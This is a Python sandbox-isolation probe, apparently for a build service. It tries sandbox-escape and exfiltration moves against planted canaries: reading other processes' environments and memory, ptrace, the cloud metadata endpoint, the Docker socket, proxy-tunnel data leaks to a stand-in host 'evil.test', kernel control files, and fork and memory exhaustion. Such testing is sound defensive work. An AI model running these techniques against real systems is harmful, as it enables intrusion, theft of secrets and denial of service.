# Tries one thing that a foreign program must not be able to do, and prints POSSIBLE where it could. What it is given
# stands in its environment, as P_...; only the standard library is used.
import ctypes, errno, glob, os, platform, signal, socket, struct, subprocess, sys, time

P = {name[2:]: value for name, value in os.environ.items() if name.startswith("P_")}


def tried(act):
    try:
        return act() is not False
    except Exception as error:
        print(type(error).__name__, error, file=sys.stderr)
        return False


def shell(text):
    return subprocess.run(["sh", "-c", text], stdin=subprocess.DEVNULL, capture_output=True).returncode == 0


def read(path):
    with open(path, "rb") as file:
        return file.read(1 << 20)


def append(path):
    with open(path, "a") as file:
        file.write("x")


def any_of(*acts):
    return any([tried(act) for act in acts])


def secret_file():
    return b"planted" in read(P["SECRET"])


def settings_beside_programs():
    tried(lambda: os.chmod(P["SETTINGS"], 0o666))
    return b"planted" in read(P["SETTINGS"])


def modes():
    files = [P["SECRET"], P["SIBLING"], P["MIRROR"] + "/config", P["OUTSIDE"]]
    ways = [lambda file: os.chmod(file, 0o777), lambda file: os.chown(file, os.getuid(), -1), lambda file: os.utime(file, (1, 1))]
    return any_of(*(lambda way=way, file=file: way(file) for way in ways for file in files))


def environments():
    return any(tried(lambda: b"CANARY=planted" in read(path) or False) for path in glob.glob("/proc/[0-9]*/environ"))


def inherited_variable():
    return P["VARIABLE"] in os.environ


def other_process():
    pid = int(P["PID"])
    libc = ctypes.CDLL(None, use_errno=True)

    def attach():
        attached = libc.ptrace(16, pid, 0, 0) == 0
        if attached:
            os.waitpid(pid, 0x40000000)
            libc.ptrace(17, pid, 0, 0)
        return attached

    return any_of(lambda: open(f"/proc/{pid}/mem", "rb"), lambda: os.listdir(f"/proc/{pid}/root"), attach)


def leaked_handle():
    return tried(lambda: os.pread(int(P["HANDLE"]), 9, 0) == b"planted")


def sibling():
    return b"planted" in read(P["SIBLING"])


def write_outside():
    out, here = P["OUTSIDE"], P["CHECKOUT"]
    return any_of(
        lambda: append(out + "/f"),
        lambda: append(out + "/new"),
        lambda: append(here + "/link/f"),
        lambda: (os.link(out + "/f", here + "/hard"), append(here + "/hard")),
        lambda: os.rename(here + "/own", out + "/moved"),
        lambda: os.rename(out + "/g", here + "/taken"),
        lambda: os.truncate(out + "/f", 0),
    )


def mirror():
    there = P["MIRROR"]
    # A file of this name in a scratch folder of its own would be no file of the mirror.
    return any_of(
        lambda: open(there + "/config", "r+").write("x"),
        lambda: open(there + "/hooks/post-checkout", "x"),
        lambda: open(there + "/objects/info/alternates", "r+").write("x"),
        lambda: os.unlink(there + "/objects/info/alternates"),
    )


def connect(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as out:
        out.settimeout(3)
        out.connect(address)


def other_address():
    connect(socket.AF_INET, ("127.169.254.169", int(P["EVERYWHERE"])))


def metadata():
    connect(socket.AF_INET, ("169.254.169.254", 80))


def service_port():
    return any_of(
        lambda: connect(socket.AF_INET, ("127.0.0.1", int(P["TCP"]))),
        lambda: connect(socket.AF_INET6, ("::1", int(P["TCP6"]))),
    )


def fast_open():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as out:
        out.sendto(b"data", 0x20000000, ("127.0.0.1", int(P["TCP"])))


def listening():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as here:
        here.listen()


def shared_memory():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    at = libc.shmat(int(P["SHARED"]), None, 0)
    return at not in (None, ctypes.c_void_p(-1).value)


def proxy_port_elsewhere():
    connect(socket.AF_INET, ("127.0.0.2", int(P["ELSEWHERE"])))


def datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.settimeout(3)
        out.sendto(b"query", ("127.0.0.1", int(P["UDP"])))
        return out.recv(100) == b"answer"


def unix_sockets():
    return any_of(
        lambda: connect(socket.AF_UNIX, "\0" + P["ABSTRACT"]),
        lambda: connect(socket.AF_UNIX, P["SOCKET"]),
    )


def packet_and_vsock():
    return any_of(
        lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close(),
        lambda: socket.socket(40, socket.SOCK_STREAM).close(),
    )


def docker():
    connect(socket.AF_UNIX, P["DOCKER"])


def signal_service():
    os.kill(int(P["PID"]), 0)


def namespaces():
    return any_of(
        lambda: shell("unshare -U true"),
        lambda: shell("unshare -Urn true"),
        lambda: shell("d=$(mktemp -d) && unshare -m mount -t tmpfs none $d"),
    )


def control_groups():
    def make(parent):
        folder = f"{parent}/autobuild-probe-{os.getpid()}"
        os.mkdir(folder)
        os.rmdir(folder)

    return any_of(*[lambda parent=parent: make(parent) for parent in ["/sys/fs/cgroup", *glob.glob("/sys/fs/cgroup/*/")]])


def kernel_settings():
    def openable(path, flags):
        os.close(os.open(path, flags))

    blocks = [f"/dev/{name}" for name in os.listdir("/sys/block")] if os.path.isdir("/sys/block") else ["/dev/vda", "/dev/sda"]
    return any_of(
        lambda: openable("/proc/sys/kernel/core_pattern", os.O_WRONLY),
        lambda: openable("/proc/sysrq-trigger", os.O_WRONLY),
        *[lambda path=path: openable(path, os.O_RDONLY) for path in blocks],
    )


def terminal():
    os.close(os.open("/dev/tty", os.O_RDWR))


def system_calls():
    arm = platform.machine() == "aarch64"
    numbers = [219, 425, 280, 282, 241] if arm else [250, 425, 321, 323, 298]
    later = [463, 466, 467, 468, 471]
    libc = ctypes.CDLL(None, use_errno=True)
    for number in numbers + later:
        ctypes.set_errno(0)
        if libc.syscall(number, 0, 0, 0, 0, 0) >= 0 or ctypes.get_errno() not in (errno.EPERM, errno.ENOSYS):
            print("reached", number)
            return True
    return False


def children():
    started = []
    try:
        for _ in range(1500):
            pid = os.fork()
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            started.append(pid)
        # Whoever looks now and then looks within this time.
        time.sleep(1.5)
        return True
    finally:
        for pid in started:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)


def memory():
    held = [os.urandom(1 << 16) * 1024 for _ in range(40)]
    time.sleep(1.5)
    return len(held) == 40


def large_file():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    path = P["CHECKOUT"] + "/large"
    try:
        with open(path, "wb") as file:
            file.truncate(6 << 30)
    finally:
        os.path.exists(path) and os.unlink(path)


def full_tmp():
    path = f"/tmp/autobuild-probe-{os.getpid()}"
    try:
        return shell(f"fallocate -l 1536M {path}")
    finally:
        os.path.exists(path) and os.unlink(path)


def straggler():
    # It waits for what only itself could write, and speaks first: while a process becomes another program, it has no
    # command line by which the table could find it.
    waiting, own = os.pipe()
    command = ["setsid", "sh", "-c", "echo up; read line", P["STRAGGLER"]]
    quiet = subprocess.DEVNULL
    left = subprocess.Popen(command, stdin=waiting, stdout=subprocess.PIPE, stderr=quiet, pass_fds=[own])
    left.stdout.readline()
    return False


def past_the_proxy():
    import base64, urllib.parse

    proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", "http://none@127.0.0.1:9"))
    login = base64.b64encode(urllib.parse.unquote(f"{proxy.username}:{proxy.password or ''}").encode()).decode()

    def ask(line, host):
        with socket.create_connection((proxy.hostname, proxy.port), 5) as out:
            out.sendall(f"{line} HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: Basic {login}\r\n\r\n".encode())
            return out.recv(100).split(b" ")[1] == b"200"

    def connected(host):
        return ask(f"CONNECT {host}", host)

    print("DOOR" if tried(lambda: connected("allowed.test:443")) else "NO DOOR")
    return any_of(
        lambda: connected("other.test:443"),
        lambda: connected("127.0.0.1:443"),
        lambda: connected("allowed.test:22"),
        lambda: connected("localhost:443"),
        lambda: ask("GET http://allowed.test/", "allowed.test"),
        lambda: connect(socket.AF_INET, ("127.0.0.1", int(P["TCP"]))),
    )


def upload_by_a_registry():
    import base64, ssl, urllib.parse

    def echoes(out, sent):
        out.settimeout(5)
        out.sendall(sent)
        return sent in out.recv(100)

    proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY", ""))
    if proxy.username != "run":
        with socket.create_connection(("127.0.0.1", int(P["ECHO"])), 5) as out:
            return echoes(out, b"secret")
    login = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()

    def tunnel(host):
        out = socket.create_connection((proxy.hostname, proxy.port), 5)
        out.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}\r\nProxy-Authorization: Basic {login}\r\n\r\n".encode())
        return out if out.recv(1000).split(b" ")[1] == b"200" else None

    def speaks(request):
        context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
        with context.wrap_socket(tunnel("registry.npmjs.org"), server_hostname="registry.npmjs.org") as out:
            out.sendall(request)
            return b" 403 " not in out.recv(100).split(b"\r\n")[0]

    def names(host):
        name = struct.pack(">HHHBH", 0, len(host) + 5, len(host) + 3, 0, len(host)) + host
        body = b"\3\3" + bytes(33) + b"\0\2\x13\1\1\0" + struct.pack(">H", len(name)) + name
        hello = b"\1" + struct.pack(">I", len(body))[1:] + body
        return echoes(tunnel("registry.npmjs.org"), b"\x16\3\1" + struct.pack(">H", len(hello)) + hello)

    print("OPEN" if tunnel("registry.npmjs.org") else "CLOSED")
    head = b"Host: registry.npmjs.org\r\nContent-Length: 6\r\n\r\nsecret"
    return any_of(
        lambda: tunnel("pypi.org") is not None,
        lambda: echoes(tunnel("registry.npmjs.org"), b"secret"),
        lambda: names(b"evil.test"),
        lambda: speaks(b"PUT /leafy HTTP/1.1\r\n" + head),
        lambda: speaks(b"GET /leafy HTTP/1.1\r\n" + head),
        lambda: speaks(b"GET /leafy?secret HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n"),
    )


def limits_of_others():
    import resource

    same = resource.prlimit(int(P["PID"]), resource.RLIMIT_MSGQUEUE)
    resource.prlimit(int(P["PID"]), resource.RLIMIT_MSGQUEUE, same)


def priority_of_others():
    pid = int(P["PID"])
    nice = os.getpriority(os.PRIO_PROCESS, pid)
    return any_of(
        lambda: os.setpriority(os.PRIO_PROCESS, pid, nice),
        lambda: os.sched_setscheduler(pid, os.SCHED_OTHER, os.sched_param(0)),
        lambda: os.sched_setparam(pid, os.sched_param(0)),
    )


def processors_of_others():
    os.sched_setaffinity(int(P["PID"]), os.sched_getaffinity(int(P["PID"])))


def write_as_coach():
    here = P["CHECKOUT"]
    return any_of(
        lambda: append(here + "/own"),
        lambda: append(here + "/new"),
        lambda: os.mkdir(here + "/folder"),
        lambda: os.unlink(here + "/spare"),
        lambda: os.symlink("own", here + "/another"),
        lambda: os.rename(here + "/own", here + "/renamed"),
    )


def command_lines():
    return b"canary-argument" in read(f"/proc/{P['PID']}/cmdline")


def status(name):
    for line in open("/proc/self/status"):
        if line.startswith(name + ":"):
            return line.split()[1]


def controls():
    def work():
        append(P["CHECKOUT"] + "/own")
        assert shell(f"cd {P['CHECKOUT']} && git -c safe.directory='*' status && mktemp && echo x > /dev/null"), "git, mktemp, null"
        assert status("NoNewPrivs") == "1", "no new privileges"
        # A user of the run's own keeps the right to read past modes (bit 2), or past all modes in containers without it.
        capabilities, user = int(status("CapEff"), 16), int(status("Uid"))
        assert capabilities == 0 or user >= 1_879_048_192 and capabilities in (1 << 1, 1 << 2), "capabilities"
        import resource
        assert resource.getrlimit(resource.RLIMIT_CORE) == (0, 0), "core"

    work()
    print("WORKS")
    return False


print("POSSIBLE" if tried(globals()[sys.argv[1]]) else "refused", flush=True)
